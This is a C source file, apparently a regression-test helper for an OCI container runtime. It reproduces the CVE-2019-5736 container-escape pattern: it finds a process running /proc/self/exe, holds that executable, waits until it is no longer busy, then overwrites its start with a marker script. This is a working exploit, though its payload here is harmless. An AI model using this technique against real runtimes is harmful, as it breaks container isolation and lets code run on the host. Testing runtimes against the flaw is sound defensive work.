// SPDX-License-Identifier: MIT
/* selfexe-attack.c - CVE-2019-5736's pattern, from inside a container or
 * sandbox (tests/oci/20-selfexe.t): the image's /bin/sh is
 * `#!/proc/self/exe`, so a runtime that execs it there runs its own
 * binary inside. This program, a process of the container, finds that
 * process (its argv[0] is "/proc/self/exe", the shebang's interpreter),
 * holds its /proc/PID/exe with O_PATH (which needs no permission on the
 * file), waits until nothing runs the file any more (ETXTBSY ends), then
 * reopens /proc/self/fd/N for writing and writes a marker over its start.
 *
 * Usage: selfexe-attack DIR. It writes DIR/caught once it holds the
 * file, then DIR/result ("exe=TARGET" and "write=ok" or the error) and
 * exits 0; it scans until it finds the process. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void put(const char *dir, const char *name, const char *text)
{
	char path[512];
	FILE *f;

	snprintf(path, sizeof path, "%s/%s.tmp", dir, name);
	f = fopen(path, "w");
	if (!f)
		return;
	fputs(text, f);
	fclose(f);
	char to[512];
	snprintf(to, sizeof to, "%s/%s", dir, name);
	rename(path, to);
}

/* a process whose argv[0] is /proc/self/exe: its exe held with O_PATH */
static int catch_one(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int fd = -1;

	if (!d)
		return -1;
	while (fd < 0 && (e = readdir(d))) {
		char path[300], cmd[64] = "";
		int c;
		ssize_t n;

		if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
			continue;
		snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
		c = open(path, O_RDONLY | O_CLOEXEC);
		if (c < 0)
			continue;
		n = read(c, cmd, sizeof cmd - 1);
		close(c);
		if (n <= 0 || strcmp(cmd, "/proc/self/exe") != 0)
			continue;
		snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
		fd = open(path, O_PATH | O_CLOEXEC);
	}
	closedir(d);
	return fd;
}

int main(int argc, char **argv)
{
	static const char marker[] = "#!/bin/sh\necho the container wrote this\n";
	const struct timespec ms = { 0, 1000000 };
	char path[64], target[256] = "?", result[512];
	int fd, w;
	ssize_t n;

	if (argc != 2)
		return 2;
	while ((fd = catch_one()) < 0)
		sched_yield();
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	n = readlink(path, target, sizeof target - 1);
	target[n > 0 ? n : 1] = '\0';
	put(argv[1], "caught", target);
	/* busy while anything runs it: the runtime's caller on the host too */
	while ((w = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY)
		nanosleep(&ms, NULL);
	if (w < 0) {
		snprintf(result, sizeof result, "exe=%s\nwrite=open: %s\n", target,
			 strerror(errno));
	} else if (write(w, marker, sizeof marker - 1) != (ssize_t)sizeof marker - 1) {
		snprintf(result, sizeof result, "exe=%s\nwrite=write: %s\n", target,
			 strerror(errno));
	} else {
		snprintf(result, sizeof result, "exe=%s\nwrite=ok\n", target);
	}
	put(argv[1], "result", result);
	return 0;
}
